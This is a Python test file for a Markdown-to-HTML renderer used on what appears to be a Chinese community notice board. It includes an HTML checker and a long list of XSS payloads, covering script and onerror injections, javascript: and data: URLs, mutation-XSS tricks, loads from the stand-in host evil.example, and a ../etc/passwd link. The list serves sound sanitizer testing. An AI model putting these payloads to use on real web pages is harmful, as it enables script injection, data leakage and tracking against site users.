"""A notice's text as HTML: nothing runs, nothing is fetched from elsewhere, and Chinese reads as it should."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gaoshi.core.notice import Attachment
from gaoshi.core.prose import render, resolve, shown_pictures

FILES = {
    name: Attachment(name, "blob", 10, b"", width, width // 2)
    for name, width in (("map.png", 640), ("list.pdf", 0), ("a-b_c.1.webp", 100))
}
ALLOWED = {
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "blockquote",
    "strong",
    "em",
    "del",
    "sup",
    "sub",
    "code",
    "pre",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "caption",
}


class Checker(HTMLParser):
    """Reads HTML as a browser does, and notes whatever should not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.bad.append(tag)
        for name, given_value in attrs:
            value = (given_value or "").strip()
            if name.startswith("on") or name in {
                "style",
                "id",
                "class",
                "srcset",
                "background",
                "formaction",
                "xlink:href",
            }:
                self.bad.append(f"{tag} {name}")
            if name == "src" and not re.fullmatch(r"attachment:[A-Za-z0-9._-]+", value):
                self.bad.append(f"src {value}")
            if name == "href" and not re.match(r"(https?://|mailto:|tel:|attachment:)", value, re.IGNORECASE):
                self.bad.append(f"href {value}")
        if tag == "img" and not dict(attrs).get("src"):
            self.bad.append("img without src")

    def handle_comment(self, data: str) -> None:
        del data
        self.bad.append("comment")

    def handle_decl(self, decl: str) -> None:
        del decl
        self.bad.append("declaration")


def bad(html: str) -> list[str]:
    """Whatever in some HTML would run, or be fetched from elsewhere."""
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.bad


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="map.png" onerror="alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=x>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "<img src=https://evil.example/pixel.png>",
    '<img src="attachment:map.png.exe">',
    '<img srcset="https://evil.example/1.png 1x" src="map.png">',
    "<video src=//evil.example></video><audio src=x></audio><source src=x>",
    "<a href=//evil.example>x</a>",
    "[x](//evil.example)",
    "[x](../../../etc/passwd)",
    "[x](\\\\evil.example)",
    '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '![x"onerror="alert(1)](map.png)',
    '![x](map.png "t\\" onerror=\\"alert(1)")',
    "![x><script>alert(1)</script>](map.png)",
    "![a > b <img src=x onerror=alert(1)>](map.png)",
    '[x](https://ok.example "> <script>alert(1)</script>")',
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<title>x</title><textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "{: onclick=alert(1) }",
    "# x {: onclick=alert(1) }",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='javas\tcript:alert(1)'>x</a>",
    "<table background=//evil.example><tr><td background=x>y</td></tr></table>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
    """No attack from the corpus leaves anything in the HTML that runs, or that a browser would fetch."""
    for body in (text, f"前文\n\n{text}\n\n后文", f"- {text}", f"> {text}", f"| a |\n|---|\n| {text} |"):
        html = render(body, FILES)
        assert bad(html) == [], html


@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "![",
                "](",
                ")",
                "<",
                ">",
                '"',
                "'",
                "`",
                "\n",
                "    ",
                "**",
                "map.png",
                "x",
                "|",
                "&#60;",
                "&lt;",
            ]
        ),
        max_size=6,
    )
)
def test_nor_does_any_mixture_of_them(parts: list[str]) -> None:
    """Cut up and put together in any way, still nothing."""
    assert bad(render("".join(parts), FILES)) == []


def test_own_pictures_are_shown_with_their_size() -> None:
    """A picture of the folder keeps its words, gets its size so that the text does not jump, and a placeholder."""
    html = render('![取水点](map.png "图 > 1")', FILES)
    told = 'src="attachment:map.png" alt="取水点" title="图 &gt; 1" width="640" height="320"'
    assert html == f'<p><img {told} loading="lazy" decoding="async"></p>'
    assert shown_pictures(html) == {"map.png"}
    assert render("![](./map.png)", FILES).count('alt=""') == 1
    assert render("![x](a-b_c.1.webp)", FILES).count('src="attachment:a-b_c.1.webp"') == 1


@pytest.mark.parametrize(
    "target",
    ["none.png", "MAP.PNG", "../map.png", "x/map.png", "map.png?x", "map.png#x", "%6Dap.png", "/map.png", "map.png "],
)
def test_a_picture_that_is_not_in_the_folder_is_left_out(target: str) -> None:
    """Only a file's very name shows it (a trailing space is no part of a name)."""
    html = render(f"前![x](<{target}>)后", FILES)
    assert ("<img" in html) is (target.strip() == "map.png")
    assert bad(html) == []


def test_attachments_go_where_the_output_puts_them() -> None:
    """Placeholders are resolved under the address that an output gives."""
    html = render("[名单](list.pdf) ![图](map.png)", FILES)
    assert 'href="attachment:list.pdf"' in html
    resolved = resolve(html, "../../notices/2026-11/a/")
    assert 'href="../../notices/2026-11/a/list.pdf"' in resolved
    assert 'src="../../notices/2026-11/a/map.png"' in resolved
    assert "attachment:" not in resolved
    assert resolve(html, 'x"><script>').count("<script>") == 0


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("第一行\n第二行", "<p>第一行第二行</p>"),
        ("第一行，\n第二行", "<p>第一行，第二行</p>"),
        ("第一行\nsecond", "<p>第一行\nsecond</p>"),
        ("first\nsecond", "<p>first\nsecond</p>"),
        ("第一行  \n第二行", "<p>第一行<br>\n第二行</p>"),
        ("**“重要”**，请留意", "<p><strong>“重要”</strong>，请留意</p>"),
        ("请**（务必）**关好门", "<p>请<strong>（务必）</strong>关好门</p>"),
        ("时间：**11月25日，上午**。", "<p>时间：<strong>11月25日，上午</strong>。</p>"),
        ("**注意：**请关窗", "<p><strong>注意：</strong>请关窗</p>"),
        ("# 一级", "<h2>一级</h2>"),
        ("## 二级", "<h2>二级</h2>"),
        ("~~旧~~", "<p>~~旧~~</p>"),
        ("[电话](tel:000-5550-0110)", '<p><a href="tel:000-5550-0110" rel="noopener">电话</a></p>'),
        ("[x](https://ok.example/a?b=1&c=2)", '<p><a href="https://ok.example/a?b=1&amp;c=2" rel="noopener">x</a></p>'),
        ("3. 三\n4. 四", '<ol start="3">\n<li>三</li>\n<li>四</li>\n</ol>'),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("", ""),
    ],
)
def test_markdown_reads_as_chinese_authors_write_it(text: str, html: str) -> None:
    """Soft breaks between Chinese characters leave no gap, bold works beside Chinese punctuation."""
    assert render(text, FILES) == html


def test_code_keeps_its_lines() -> None:
    """Lines of a block of code are not joined, in whatever language."""
    assert "第一行\n第二行" in render("    第一行\n    第二行\n", FILES)


def test_tables_are_tables() -> None:
    """A pipe table becomes a table."""
    html = render("| 日期 | 事项 |\n|---|---|\n| 周一 | 停水 |\n", FILES)
    assert "<th>日期</th>" in html
    assert "<td>停水</td>" in html


def test_a_text_nested_beyond_measure_is_shown_as_written_and_harms_no_other() -> None:
    """Lists nested hundreds deep do not break the board: that text stays plain, and the next one is as ever."""
    texts = ("甲\n\n乙", "- a\n- b\n", "- a\n\n- b\n\n    c\n", "> a\n\nb", "甲\n: 乙\n")
    before = [render(text, FILES) for text in texts]
    deep = render("- " * 5000 + "<b>x</b>", FILES)
    assert deep.startswith("<pre>")
    assert "&lt;b&gt;" in deep
    assert [render(text, FILES) for text in texts] == before


def test_rendering_does_not_remember() -> None:
    """A text's references and abbreviations do not reach into the next text."""
    render("[x]: https://ok.example\n\n[x]", FILES)
    assert render("[x]", FILES) == "<p>[x]</p>"
